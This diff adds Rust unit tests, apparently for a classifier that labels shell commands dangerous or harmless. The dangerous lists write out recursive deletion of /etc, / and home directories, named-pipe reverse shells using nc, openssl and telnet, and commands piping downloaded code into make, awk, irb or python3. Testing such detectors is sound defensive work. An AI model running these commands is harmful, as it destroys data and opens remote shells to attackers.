@@ -527,3 +527,114 @@ fn bounded_effects_are_harmless() {
         "python3 -c \"import base64; print(base64.b64decode('eA=='))\"",
     ]);
 }
+
+#[test]
+fn removal_of_each_file_that_ls_lists_is_dangerous() {
+    dangerous(&[
+        "ls /etc | xargs -I{} rm -rf /etc/{}",
+        "ls /etc | xargs -I % rm -rf /etc/%",
+        "ls / | xargs -I{} rm -rf /{}",
+        "ls ~ | xargs -I{} rm -rf ~/{}",
+        "ls | xargs -I{} rm -rf ./{}",
+        "cd /etc; ls | xargs -I{} rm -rf {}",
+    ]);
+    harmless(&[
+        "ls build | xargs -I{} rm -rf build/{}",
+        "ls old | xargs -I{} rm -rf {}",
+        "ls *.log | xargs -I{} rm {}",
+        "ls | xargs -I{} rm {}",
+        "cat list | xargs -I{} rm -rf dist/{}",
+        "ls /etc | xargs -I{} echo /etc/{}",
+    ]);
+}
+
+#[test]
+fn removal_of_a_path_that_programs_compute_is_dangerous() {
+    dangerous(&[
+        "rm -rf $(dirname $HOME)",
+        "rm -rf \"$(dirname \"$HOME\")\"",
+        "rm -rf $(dirname $(dirname $PWD))",
+        "rm -rf /$(basename /etc)",
+        "rm -rf \"$(realpath ~)\"",
+        "rm -rf \"$(readlink -f /)\"",
+        "rm -rf \"$(cd .. && pwd)\"",
+        "rm -rf \"$(cd ..; pwd)\"",
+        "rm -rf \"${HOME%/*}\"",
+        "x=/etc/passwd; rm -rf \"${x%/*}\"",
+        "x=a/etc; rm -rf \"/${x##*/}\"",
+    ]);
+    harmless(&[
+        "rm -rf \"$(dirname build/x)\"",
+        "rm -rf \"$(realpath build)\"",
+        "rm -rf \"$(cd build && pwd)/out\"",
+        "x=a/b.txt; rm -rf \"${x%/*}\"",
+    ]);
+}
+
+#[test]
+fn a_shell_behind_a_named_pipe_to_the_network_is_dangerous() {
+    dangerous(&[
+        "mkfifo /tmp/f; nc h 1 < /tmp/f | sh > /tmp/f",
+        "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc h 1 > /tmp/f",
+        "mkfifo p && sh < p | nc -l 1 > p",
+        "mkfifo p; sh -i < p 2>&1 | openssl s_client -quiet -connect h:1 > p",
+        "mknod p p; telnet h 1 < p | sh > p",
+        "mkfifo p; nc h 1 > p & sh < p",
+        "mkfifo p; sh < p | nc h 1 | tee p",
+    ]);
+    harmless(&[
+        "mkfifo p; echo a > p & cat p",
+        "mkfifo p; nc h 1 > p & cat p",
+        "mkfifo p; cat p | sh & echo ls > p",
+        "mkfifo p; nc h 1 > f; echo ls | sh",
+    ]);
+}
+
+#[test]
+fn a_download_that_a_program_other_than_a_shell_runs_is_dangerous() {
+    dangerous(&[
+        "curl x | make -f -",
+        "curl x | make -f- all",
+        "curl x | make --file=- all",
+        "curl x | make --makefile /dev/stdin",
+        "curl -o m x; make -fm",
+        "curl -o Makefile x; make",
+        "curl x | awk -f -",
+        "curl x | sed -f /dev/stdin",
+        "curl x | irb",
+        "ssh h cat x | sh",
+        "ssh h 'cat x' | bash",
+        "ssh -p 22 h cat x | python3",
+    ]);
+    harmless(&[
+        "echo all: | make -f -",
+        "curl -o m x; make",
+        "curl -o data x; make -f Makefile",
+        "curl x | awk '{print $1}'",
+        "curl x | sed s/a/b/",
+        "ssh h cat x | tar xz",
+        "ssh h cat x | sort",
+        "echo ls | ssh h sh",
+    ]);
+}
+
+#[test]
+fn a_download_of_which_a_shell_checks_the_syntax_is_harmless() {
+    harmless(&[
+        "curl x | sh -n",
+        "curl x | bash -n -",
+        "curl x | bash -vn",
+        "curl x | bash -n /dev/stdin",
+        "curl x | fish -n",
+        "bash -n <(curl x)",
+        "curl x > f; bash -n f",
+    ]);
+    dangerous(&[
+        "curl x | sh -n +n",
+        "curl x | bash +n",
+        "curl x | sh -ni",
+        "curl x | bash -s -- -n",
+        "curl x > f; bash -n f && bash f",
+        "curl x | bash -O n",
+    ]);
+}
